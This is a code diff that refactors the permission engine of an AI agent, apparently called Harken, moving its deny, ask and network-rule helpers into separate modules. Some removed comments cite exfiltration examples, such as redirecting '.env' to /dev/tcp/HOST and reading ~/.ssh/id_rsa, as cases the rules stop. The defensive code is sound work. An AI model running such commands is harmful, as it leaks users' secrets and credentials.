@@ -30,25 +30,24 @@ from __future__ import annotations
 
 import os
 import shlex
-from collections.abc import Iterable
 from dataclasses import dataclass, field
 from pathlib import Path
 
-from agent.permissions.classify import Classification, ShellPart, classify
+from agent.permissions.classify import Classification, classify
 from agent.permissions.decision import Decision, Mode, Risk, ToolCall, Verdict
 from agent.permissions.grant import Grant
-from agent.permissions.paths import is_inside
-from agent.permissions.program_args import Effect, Invocation
-from agent.permissions.protected import is_protected
-from agent.permissions.rule_cover import commands, covering_rule, needs_no_rule
-from agent.permissions.rules import (
-    PATH_TOOLS,
-    Rule,
-    command_matches,
-    domain_matches,
-    mcp_matches,
-    path_matches,
+from agent.permissions.network_rules import (
+    named_hosts,
+    network_ruled,
+    reaches_network,
+    sockets_named,
+    why_network,
 )
+from agent.permissions.paths import is_inside
+from agent.permissions.protected import is_protected
+from agent.permissions.rule_cover import covering_rule, needs_no_rule
+from agent.permissions.rule_touch import first_touching, shell_invocation
+from agent.permissions.rules import Rule, domain_matches, mcp_matches, path_matches
 from agent.permissions.settings import RuleSet
 from agent.tools.base import ToolKind
 
@@ -84,7 +83,7 @@ class PermissionEngine:
             text = f"{rule.text} ({rule.source})" if rule else None
             return Decision(verdict, reason, text, risk, grant, suggestion)
 
-        rule = self._first_match(self.rules.deny, call, c)
+        rule = first_touching(self.rules.deny, call, c, self.workspace, self.home)
         if rule:
             return decision(Verdict.DENY, f"denied by the rule {rule.text} ({rule.source})", rule)
 
@@ -96,7 +95,7 @@ class PermissionEngine:
                 Verdict.ASK, f"catastrophic: {c.catastrophic}", None, Risk.CATASTROPHIC, grant, None
             )
 
-        rule = self._first_match(self.rules.ask, call, c)
+        rule = first_touching(self.rules.ask, call, c, self.workspace, self.home)
         if rule:
             return decision(Verdict.ASK, f"the rule {rule.text} ({rule.source}) asks", rule)
 
@@ -108,7 +107,8 @@ class PermissionEngine:
 
         if self.mode is Mode.BYPASS:
             # Bypass trusts the agent with this machine, not with sending its data away.
-            if (c.hosts or c.unknown_hosts) and not self._network_ruled(call, c):
+            command_ruled = call.name == "Bash" and self._shell_rule(c) is not None
+            if reaches_network(c) and not network_ruled(self.rules.allow, c, command_ruled):
                 return decision(Verdict.ASK, f"bypass mode, but {self._why_ask(c)}")
             return decision(Verdict.ALLOW, "bypass mode")
 
@@ -117,7 +117,7 @@ class PermissionEngine:
             return decision(Verdict.ASK, f"cannot prove it safe: {why}")
 
         covered, rule = self._allowed_by_rules(call, c)
-        if covered and self._sockets_named(c):
+        if covered and sockets_named(self.rules.allow, c):
             reason = f"allowed by the rule {rule.text} ({rule.source})" if rule else "allowed"
             return decision(Verdict.ALLOW, reason, rule)
 
@@ -133,51 +133,6 @@ class PermissionEngine:
         return decision(Verdict.ASK, self._why_ask(c))
 
     # -- rules ---------------------------------------------------------------------
-
-    def _first_match(self, rules: list[Rule], call: ToolCall, c: Classification) -> Rule | None:
-        """The first deny/ask rule that touches any part of the call."""
-        for rule in rules:
-            if self._touches(rule, call, c):
-                return rule
-        return None
-
-    def _touches(self, rule: Rule, call: ToolCall, c: Classification) -> bool:
-        tool, spec = rule.tool, rule.specifier
-        if tool.startswith("mcp__"):
-            return mcp_matches(tool, call.name)
-        if tool in PATH_TOOLS:
-            if spec is None:
-                return call.name == tool
-            targets = c.reads if tool == "Read" else c.writes
-            deep = c.deep_reads if tool == "Read" else ()
-            return any(self._path_hit(spec, p, p in deep) for p in targets)
-        if tool == "WebFetch":
-            if spec is None:
-                return call.name == "WebFetch"
-            return any(domain_matches(spec, h) for h in c.hosts)
-        if tool != call.name:
-            return False
-        if spec is None:
-            return True
-        if tool == "Bash":
-            # Deny and ask look through wrappers (`sudo rm x` is an `rm x`) and into what a
-            # command starts (`find . -exec rm {} +`, `xargs rm`).
-            return any(
-                command_matches(spec, p.words)
-                or any(command_matches(spec, inner.text) for inner in commands(_invocation(p)))
-                for p in c.parts
-            )
-        return False
-
-    def _path_hit(self, spec: str, path: Path, recursive: bool) -> bool:
-        if path_matches(spec, path, self.workspace, self.home):
-            return True
-        if not recursive:
-            return False
-        # A folder read recursively reaches everything below it: deny Read(~/.ssh/**)
-        # must stop `grep -r key ~` as well as `cat ~/.ssh/id_rsa`.
-        region = _static_prefix(spec, self.workspace, self.home)
-        return region is not None and is_inside(region, path)
 
     def _allowed_by_rules(self, call: ToolCall, c: Classification) -> tuple[bool, Rule | None]:
         """Whether allow rules (plus what needs no rule) cover every part of the call."""
@@ -208,7 +163,7 @@ class PermissionEngine:
         # needs words the rule spells out, or rules of its own (rule_cover).
         used: Rule | None = None
         for part in c.parts:
-            command = _invocation(part)
+            command = shell_invocation(part)
             if needs_no_rule(command) and not part.wrappers:
                 continue
             rule = covering_rule(command, self.rules.allow)
@@ -216,31 +171,6 @@ class PermissionEngine:
                 return None
             used = used or rule
         return used
-
-    def _network_ruled(self, call: ToolCall, c: Classification) -> bool:
-        """Whether allow rules cover the hosts a call reaches: a WebFetch rule for each
-        host, or rules covering each part of the command (the user approved that command,
-        destination included), with every redirection socket named."""
-        if not self._sockets_named(c):
-            return False
-        if call.name == "Bash" and self._shell_rule(c) is not None:
-            return True
-        return bool(c.hosts) and not c.unknown_hosts and self._hosts_covered(c.hosts)
-
-    def _sockets_named(self, c: Classification) -> bool:
-        """Whether an allow rule names every host a shell redirection connects to: a rule
-        for `cat *` approves cat, not `cat .env > /dev/tcp/HOST/80`."""
-        return self._hosts_covered(c.socket_hosts)
-
-    def _hosts_covered(self, hosts: Iterable[str]) -> bool:
-        """Whether a `WebFetch(domain:...)` allow rule covers each of ``hosts``."""
-        return all(
-            any(
-                r.tool == "WebFetch" and r.specifier and domain_matches(r.specifier, host)
-                for r in self.rules.allow
-            )
-            for host in hosts
-        )
 
     def _path_rule_for_all(self, c: Classification) -> Rule | None:
         """An allow rule covering every path the call writes (or, if none, reads)."""
@@ -340,11 +270,7 @@ class PermissionEngine:
         # writes stay confined (protected paths read-only: `cd .git; echo x >> config`).
         unplaced = c.unknown_writes and self.mode is not Mode.BYPASS
         outside = any(not self._inside_writable(p) for p in c.writes) or unplaced
-        named = frozenset(
-            r.specifier.removeprefix("domain:").strip()
-            for r in self.rules.allow
-            if c.tool == r.tool == "WebFetch" and r.specifier and "*" not in r.specifier
-        )
+        named = named_hosts(self.rules.allow, c.tool)
         return Grant(network=network, sandbox=self.sandbox and not outside, named_hosts=named)
 
     def _risk(self, c: Classification) -> Risk:
@@ -369,9 +295,8 @@ class PermissionEngine:
         outside_writes = [p for p in c.writes if not self._inside_writable(p)]
         if outside_writes:
             return f"writes outside the workspace: {outside_writes[0]}"
-        if c.hosts or c.unknown_hosts:
-            where = ", ".join([*c.hosts, *(["hosts known only when it runs"] * c.unknown_hosts)])
-            return f"{c.summary}: data can leave this machine; no allow rule covers {where}"
+        if reaches_network(c):
+            return why_network(c)
         return c.summary or f"{c.tool} {c.kind}"
 
     # -- "always allow" ------------------------------------------------------------
@@ -410,23 +335,3 @@ def is_external(tool: str) -> bool:
     """Whether ``tool`` belongs to another program (an MCP server): its declared kind is
     that program's claim, which Harken cannot check."""
     return tool.startswith(EXTERNAL_PREFIX)
-
-
-def _invocation(part: ShellPart) -> Invocation:
-    """The part as allow rules see it (a part made without one: its words, no more)."""
-    if part.invocation is not None:
-        return part.invocation
-    return Invocation(tuple(part.full.split(" ")), Effect(part.effect))
-
-
-def _static_prefix(spec: str, workspace: Path, home: Path) -> Path | None:
-    """The folder a path pattern lives in, before its first wildcard."""
-    if spec.startswith("~/") or spec == "~":
-        text = str(home) + spec[1:]
-    elif spec.startswith("/"):
-        text = spec
-    else:
-        text = f"{workspace}/{spec}"
-    cut = min((i for i in (text.find("*"), text.find("?")) if i >= 0), default=len(text))
-    prefix = text[:cut].rsplit("/", 1)[0] if cut < len(text) else text
-    return Path(os.path.normpath(prefix)) if prefix else None
